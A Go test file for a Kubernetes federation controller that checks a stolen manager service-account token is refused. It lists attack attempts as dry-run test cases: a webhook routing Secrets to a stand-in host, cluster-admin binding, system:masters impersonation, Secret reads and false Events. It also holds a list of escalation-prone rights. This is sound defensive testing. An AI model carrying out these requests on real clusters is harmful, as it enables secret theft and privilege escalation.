//go:build unix

package admission

import (
	"context"
	"fmt"
	"slices"
	"strings"
	"testing"

	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	appsv1 "k8s.io/api/apps/v1"
	authenticationv1 "k8s.io/api/authentication/v1"
	authorizationv1 "k8s.io/api/authorization/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/rest"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/kubefederate/kubectl-federate/manifests"
	"github.com/kubefederate/kubectl-federate/pkg/apis/v1alpha1"
	envhost "github.com/kubefederate/kubectl-federate/test/env/host"
)

// thief is a client with the token of the manager's account, as who has got hold of it has one.
func (h installed) thief(t *testing.T) (client.Client, *rest.Config) {
	t.Helper()
	account := &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Namespace: v1alpha1.HostNamespace, Name: manifests.ManagerAccount}}
	var token authenticationv1.TokenRequest
	must(t, h.admin.SubResource("token").Create(t.Context(), account, &token))
	config := rest.AnonymousClientConfig(h.Config())
	config.BearerToken = token.Status.Token
	c, _ := as(t, config)
	return c, config
}

// TestStolenManagerToken does what a thief of the manager's token would: have every Secret of the host sent to a server of theirs, read
// what they can, become more than they are, and leave false traces.
func TestStolenManagerToken(t *testing.T) {
	t.Parallel()
	h := enforcing(t)
	thief, config := h.thief(t)
	h.create(t, fed("stolen"))
	stolen := member("stolen-1", "stolen")
	h.create(t, stolen)
	h.create(t, credential(stolen))
	inSystem := func(name string) metav1.ObjectMeta {
		return metav1.ObjectMeta{Namespace: v1alpha1.HostNamespace, Name: name}
	}
	event := func(namespace string) *corev1.Event {
		return &corev1.Event{
			ObjectMeta:     metav1.ObjectMeta{Namespace: namespace, Name: "false-trace"},
			InvolvedObject: corev1.ObjectReference{Namespace: namespace, Kind: "Pod", Name: "x"}, Source: corev1.EventSource{Component: "kube-scheduler"},
		}
	}
	pod := &corev1.Pod{ObjectMeta: inSystem("reader"), Spec: corev1.PodSpec{
		Containers: []corev1.Container{{Name: "c", Image: "c"}},
		Volumes:    []corev1.Volume{{Name: "keys", VolumeSource: corev1.VolumeSource{Secret: &corev1.SecretVolumeSource{SecretName: manifests.KeysSecret}}}},
	}}
	const mine = `[{"op":"add","path":"/webhooks/-","value":{"name":"mine.example.com","admissionReviewVersions":["v1"],"sideEffects":"None",
"clientConfig":{"url":"https://mine.example.com"},"rules":[{"apiGroups":[""],"apiVersions":["v1"],"operations":["CREATE"],"resources":["secrets"]}]}}]`
	for name, request := range map[string]func(ctx context.Context) error{
		"a webhook of theirs in the configuration": func(ctx context.Context) error {
			return thief.Patch(ctx, &admissionregistrationv1.ValidatingWebhookConfiguration{ObjectMeta: objectMeta(manifests.WebhookConfiguration)},
				client.RawPatch(types.JSONPatchType, []byte(mine)), client.DryRunAll)
		},
		"another CA in the configuration": func(ctx context.Context) error {
			return thief.Patch(ctx, &admissionregistrationv1.ValidatingWebhookConfiguration{ObjectMeta: objectMeta(manifests.WebhookConfiguration)},
				client.RawPatch(types.JSONPatchType, []byte(`[{"op":"replace","path":"/webhooks/0/clientConfig/caBundle","value":""}]`)), client.DryRunAll)
		},
		"the path with its word": func(ctx context.Context) error {
			return thief.Get(ctx, client.ObjectKey{Name: manifests.WebhookConfiguration}, &admissionregistrationv1.ValidatingWebhookConfiguration{})
		},
		"a validating webhook": func(ctx context.Context) error {
			return thief.Create(ctx, &admissionregistrationv1.ValidatingWebhookConfiguration{ObjectMeta: objectMeta("mine")}, client.DryRunAll)
		},
		"a mutating webhook": func(ctx context.Context) error {
			return thief.Create(ctx, &admissionregistrationv1.MutatingWebhookConfiguration{ObjectMeta: objectMeta("mine")}, client.DryRunAll)
		},
		"no policy": func(ctx context.Context) error {
			return thief.Delete(ctx, &admissionregistrationv1.ValidatingAdmissionPolicy{ObjectMeta: objectMeta("membership.kubefederate.io")}, client.DryRunAll)
		},
		"its keys": func(ctx context.Context) error {
			return thief.Get(ctx, client.ObjectKey{Namespace: v1alpha1.HostNamespace, Name: manifests.KeysSecret}, &corev1.Secret{})
		},
		"other keys": func(ctx context.Context) error {
			return thief.Patch(ctx, &corev1.Secret{ObjectMeta: inSystem(manifests.KeysSecret)}, client.RawPatch(types.MergePatchType, []byte(`{"data":{"path":null}}`)), client.DryRunAll)
		},
		"Secrets beside its keys": func(ctx context.Context) error {
			return thief.List(ctx, &corev1.SecretList{}, client.InNamespace(v1alpha1.HostNamespace))
		},
		"Secrets of the system": func(ctx context.Context) error {
			return thief.List(ctx, &corev1.SecretList{}, client.InNamespace(metav1.NamespaceSystem))
		},
		"all Secrets": func(ctx context.Context) error { return thief.List(ctx, &corev1.SecretList{}) },
		"a Secret that becomes a token of its account": func(ctx context.Context) error {
			return thief.Create(ctx, &corev1.Secret{ObjectMeta: inSystem("forever"), Type: corev1.SecretTypeServiceAccountToken}, client.DryRunAll)
		},
		"a token without an end": func(ctx context.Context) error {
			account := &corev1.ServiceAccount{ObjectMeta: inSystem(manifests.ManagerAccount)}
			return thief.SubResource("token").Create(ctx, account, &authenticationv1.TokenRequest{})
		},
		"a pod that mounts the keys": func(ctx context.Context) error { return thief.Create(ctx, pod.DeepCopy(), client.DryRunAll) },
		"another image": func(ctx context.Context) error {
			return thief.Patch(ctx, &appsv1.Deployment{ObjectMeta: inSystem("kubefederate-manager")}, client.RawPatch(types.MergePatchType, []byte(`{"spec":{"replicas":0}}`)), client.DryRunAll)
		},
		"more rights": func(ctx context.Context) error {
			return thief.Create(ctx, &rbacv1.ClusterRoleBinding{ObjectMeta: objectMeta("mine"), RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "cluster-admin"}}, client.DryRunAll)
		},
		"another user": func(context.Context) error {
			other := rest.CopyConfig(config)
			other.Impersonate = rest.ImpersonationConfig{UserName: "system:admin", Groups: []string{"system:masters"}}
			c, err := envhost.Client(other)
			if err != nil {
				return err
			}
			return c.Get(t.Context(), client.ObjectKey{Name: "default"}, &corev1.Namespace{})
		},
		"an Event in kube-system": func(ctx context.Context) error {
			return thief.Create(ctx, event(metav1.NamespaceSystem), client.DryRunAll)
		},
		"an Event beside its pods": func(ctx context.Context) error {
			return thief.Create(ctx, event(v1alpha1.HostNamespace), client.DryRunAll)
		},
		"a credential": func(ctx context.Context) error {
			return thief.Create(ctx, credential(member("stolen", "x")), client.DryRunAll)
		},
		"a credential by a patch": func(ctx context.Context) error {
			return thief.Patch(ctx, credential(stolen), client.RawPatch(types.MergePatchType, []byte(`{"data":{"kubeconfig":"eA=="}}`)), client.DryRunAll)
		},
		"a credential for another federation": func(ctx context.Context) error {
			s := credential(stolen)
			s.Labels[v1alpha1.LabelFederation] = "other"
			return thief.Update(ctx, s, client.DryRunAll)
		},
		"a credential for another member": func(ctx context.Context) error {
			s := credential(stolen)
			s.OwnerReferences[0].UID = "other"
			return thief.Update(ctx, s, client.DryRunAll)
		},
		"a member's spec": func(ctx context.Context) error {
			return thief.Patch(ctx, member("stolen", "x"), client.RawPatch(types.MergePatchType, []byte(`{"spec":{"server":"https://mine.example.com"}}`)), client.DryRunAll)
		},
	} {
		t.Run(name, func(t *testing.T) {
			if err := request(t.Context()); !apierrors.IsForbidden(err) {
				t.Errorf("answered %v", err)
			}
		})
	}
	// What it is to do works, so that the above is not refused for another reason.
	renewed := credential(stolen)
	renewed.Data[v1alpha1.CredentialKey], renewed.Annotations = []byte("renewed"), map[string]string{v1alpha1.AnnotationRenewed: "x"}
	must(t, thief.Update(t.Context(), renewed, client.DryRunAll))
	must(t, thief.Create(t.Context(), event(metav1.NamespaceDefault), client.DryRunAll))
	must(t, thief.List(t.Context(), &corev1.SecretList{}, client.InNamespace(v1alpha1.CredentialsNamespace)))

	for _, namespace := range []string{v1alpha1.HostNamespace, v1alpha1.CredentialsNamespace, metav1.NamespaceDefault, metav1.NamespaceSystem, "kube-public"} {
		review := &authorizationv1.SelfSubjectRulesReview{Spec: authorizationv1.SelfSubjectRulesReviewSpec{Namespace: namespace}}
		must(t, thief.Create(t.Context(), review))
		if review.Status.Incomplete {
			t.Errorf("the rights in %s are not known: %s", namespace, review.Status.EvaluationError)
		}
		for _, rule := range review.Status.ResourceRules {
			if fault := tooMuch(namespace, rule); fault != "" {
				t.Errorf("in %s it may %v %v %v %v: %s", namespace, rule.Verbs, rule.APIGroups, rule.Resources, rule.ResourceNames, fault)
			}
		}
	}
}

// tooMuch says why a right is none of the manager's; empty when it is.
func tooMuch(namespace string, rule authorizationv1.ResourceRule) string {
	for _, list := range [][]string{rule.Verbs, rule.APIGroups, rule.Resources} {
		if slices.Contains(list, "*") {
			return "a wildcard"
		}
	}
	for _, verb := range []string{"bind", "escalate", "impersonate", "approve", "sign"} {
		if slices.Contains(rule.Verbs, verb) {
			return fmt.Sprintf("the verb %s", verb)
		}
	}
	writes := slices.ContainsFunc(rule.Verbs, func(verb string) bool { return !slices.Contains([]string{"get", "list", "watch"}, verb) })
	for _, resource := range rule.Resources {
		switch name, sub, _ := strings.Cut(resource, "/"); {
		case strings.Contains(name, "webhookconfigurations"), strings.Contains(name, "admissionpolic"):
			return "admission"
		case name == "secrets" && namespace != v1alpha1.CredentialsNamespace && (len(rule.ResourceNames) == 0 || namespace != v1alpha1.HostNamespace):
			return "Secrets"
		case name == "events" && namespace != metav1.NamespaceDefault:
			return "Events"
		case name == "pods", name == "serviceaccounts", strings.HasSuffix(name, "roles"), strings.HasSuffix(name, "rolebindings"), name == "deployments":
			return "what leads to more rights"
		case writes && (name == "federations" || name == "memberclusters") && sub != "status":
			return "more than the status"
		}
	}
	return ""
}

// TestEventsOfJoiners writes Events as a joiner: in default, where those of members are kept, and nowhere else.
func TestEventsOfJoiners(t *testing.T) {
	t.Parallel()
	h := enforcing(t)
	trace := h.user(t, "trace", manifests.JoinerBinding("traced", subject("trace")))
	for namespace, want := range map[string]string{
		metav1.NamespaceDefault:       "",
		metav1.NamespaceSystem:        `403 events is forbidden: User "trace" cannot create resource "events" in API group "" in the namespace "kube-system"`,
		v1alpha1.HostNamespace:        `403 events is forbidden: User "trace" cannot create resource "events" in API group "" in the namespace "kubefederate-system"`,
		v1alpha1.CredentialsNamespace: `403 events is forbidden: User "trace" cannot create resource "events" in API group "" in the namespace "kubefederate-credentials"`,
	} {
		answers(t, want, func() error {
			return trace.Create(t.Context(), &corev1.Event{
				ObjectMeta:     metav1.ObjectMeta{Namespace: namespace, Name: "false-trace"},
				InvolvedObject: corev1.ObjectReference{Namespace: namespace, Kind: "Pod", Name: "x"},
			}, client.DryRunAll)
		})
	}
}
